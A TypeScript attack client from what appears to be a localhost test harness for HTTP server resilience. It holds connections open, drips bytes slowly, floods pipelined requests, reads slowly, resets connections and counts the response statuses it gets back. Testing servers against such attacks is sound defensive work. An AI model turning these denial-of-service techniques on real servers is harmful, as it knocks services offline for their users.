/**
 * One hostile client: `node attacker.ts ATTACK SECONDS PORT…`. It uses raw sockets from one address, and prints how many
 * connections and requests it made, and the answers.
 */
import { connect, type Socket } from 'node:net';
import { constants, setPriority } from 'node:os';
import { attackOf, type Conduct } from './attacks.ts';
import { type Bytes, inTurn, requestText } from './template.ts';

export const ATTACKER_ADDRESS = '127.0.0.2';
const SOCKETS_MAX = 600;
const TICK_MS = 10;
/** New connections in one tick: at most 1,000 a second. */
const OPENED_PER_TICK_MAX = 10;
const FLOOD_CONNECTIONS = 50;
/** Maximum number of unanswered requests on one connection of a flood. */
const OUTSTANDING_MAX = 8;
const READ_EVERY_MS = 1000;
const PIECE_BYTES = 65_536;
const STATUS = /HTTP\/1\.[01] (\d{3}) /g;

export interface AttackCounts {
  connected: number;
  /** Number of requests whose sending has begun. */
  requests: number;
  readonly answers: Record<string, number>;
}

/** A conduct with its texts, which are made once for all connections. */
type Use = Conduct & { readonly next: Bytes; readonly nextDrip: Bytes; readonly nextPour: Bytes };

class Attacker {
  readonly counts: AttackCounts = { connected: 0, requests: 0, answers: {} };
  readonly #ports: readonly number[];
  /** Number of unanswered requests on each connection. The one that was used last is at the end. */
  readonly #outstanding = new Map<Socket, number>();
  #opened = 0;

  constructor(ports: readonly number[]) {
    this.#ports = ports;
  }

  start(conduct: Conduct): void {
    const { hold, open, flood, send = [], raw = [send].flat().map(requestText), drip, pour } = conduct;
    const next = inTurn(raw);
    const use: Use = { ...conduct, next, nextDrip: inTurn(drip?.raw ?? []), nextPour: inTurn(pour ?? []) };
    if (hold !== undefined) this.#hold(hold, use);
    if (open !== undefined) pace(open, () => this.#connect(use));
    if (flood === undefined) return;
    this.#hold(FLOOD_CONNECTIONS, { ...use, next: inTurn([]) });
    pace(flood, () => this.#requestOnIdlest(next));
  }

  /** Keeps a number of connections open. A connection that closes is replaced. */
  #hold(connections: number, use: Use): void {
    let open = 0;
    setInterval(() => {
      for (let i = 0; i < OPENED_PER_TICK_MAX && open < connections; i++) {
        const socket = this.#connect(use);
        if (socket === null) return;
        open++;
        socket.once('close', () => open--);
      }
    }, TICK_MS);
  }

  /** Opens a connection. @returns null if the attacker already has too many */
  #connect(use: Use): Socket | null {
    if (this.#outstanding.size >= SOCKETS_MAX) return null;
    const port = this.#ports[this.#opened++ % this.#ports.length] ?? 0;
    const to = { port, host: '127.0.0.1', localAddress: ATTACKER_ADDRESS };
    const socket = connect({ ...to, noDelay: true, allowHalfOpen: use.halfCloses ?? false });
    this.#outstanding.set(socket, 0);
    socket.on('error', () => undefined);
    socket.once('close', () => this.#outstanding.delete(socket));
    socket.once('connect', () => {
      this.counts.connected++;
      this.#request(socket, use.next());
      behave(socket, use);
    });
    if (use.reads === 'never') return socket;
    return socket.on('data', (chunk: Buffer) => {
      this.#count(socket, chunk);
      if (use.leavesAtReply) socket.destroy();
    });
  }

  #request(socket: Socket, bytes: Buffer): void {
    if (!socket.writable || bytes.length === 0) return;
    this.counts.requests++;
    const outstanding = this.#outstanding.get(socket) ?? 0;
    this.#outstanding.delete(socket);
    this.#outstanding.set(socket, outstanding + 1);
    socket.write(bytes);
  }

  /** Skips connections with too many unanswered requests. */
  #requestOnIdlest(next: Bytes): void {
    for (const [socket, outstanding] of this.#outstanding) {
      if (socket.readyState !== 'open' || outstanding >= OUTSTANDING_MAX) continue;
      this.#request(socket, next());
      return;
    }
  }

  #count(socket: Socket, chunk: Buffer): void {
    if (!chunk.includes('HTTP/1.')) return;
    for (const [, status = ''] of chunk.toString('latin1').matchAll(STATUS)) {
      this.counts.answers[status] = (this.counts.answers[status] ?? 0) + 1;
      this.#outstanding.set(socket, Math.max(0, (this.#outstanding.get(socket) ?? 0) - 1));
    }
  }
}

/** Uses a connection after its request. */
function behave(socket: Socket, use: Use): void {
  const { drip, pour, reads, leavesAfterMs, resets, halfCloses } = use;
  if (resets) setImmediate(() => socket.resetAndDestroy());
  if (halfCloses) socket.end();
  if (leavesAfterMs !== undefined) setTimeout(() => socket.destroy(), leavesAfterMs);
  if (drip !== undefined) {
    let left = drip.times ?? Number.POSITIVE_INFINITY;
    repeat(socket, drip.everyMs, () => {
      if (!socket.writableNeedDrain && left-- > 0) socket.write(use.nextDrip());
    });
  }
  if (pour !== undefined) pourInto(socket, use.nextPour());
  if (reads !== 'slowly') return;
  socket.pause();
  repeat(socket, READ_EVERY_MS, () => {
    socket.resume();
    setImmediate(() => socket.pause());
  });
}

/** Writes the same bytes again and again, as fast as they are read. */
function pourInto(socket: Socket, bytes: Buffer): void {
  const pieces = Math.ceil(bytes.length / PIECE_BYTES);
  const piece = (i: number) => bytes.subarray(i * PIECE_BYTES, (i + 1) * PIECE_BYTES);
  let written = 0;
  const fill = (): void => {
    while (socket.writable && socket.write(piece(written++ % pieces)));
  };
  socket.on('drain', fill);
  fill();
}

/** Repeats an action while the connection is open. */
function repeat(socket: Socket, everyMs: number, act: () => void): void {
  const timer = setInterval(act, everyMs);
  socket.once('close', () => clearInterval(timer));
}

/** Does something at an even rate. */
function pace(perSecond: number, act: () => void): void {
  const began = performance.now();
  let done = 0;
  setInterval(() => {
    const due = Math.floor(((performance.now() - began) / 1000) * perSecond);
    // After a pause of this process, skip the missed actions instead of doing them in a burst.
    done = Math.max(done, due - Math.ceil(perSecond / 10));
    for (; done < due; done++) act();
  }, TICK_MS);
}

if (import.meta.main) {
  const [name = '', seconds, ...ports] = process.argv.slice(2);
  // A real attacker is another machine. Here it must not take CPU time from the servers that it attacks.
  setPriority(constants.priority.PRIORITY_BELOW_NORMAL);
  const attacker = new Attacker(ports.map(Number));
  const end = (): void =>
    void process.stdout.write(`${JSON.stringify(attacker.counts)}\n`, () => process.exit(0));
  process.once('SIGTERM', end);
  setTimeout(end, Number(seconds) * 1000);
  for (const conduct of attackOf(name).attack) attacker.start(conduct);
  process.stdout.write('attacking\n');
}
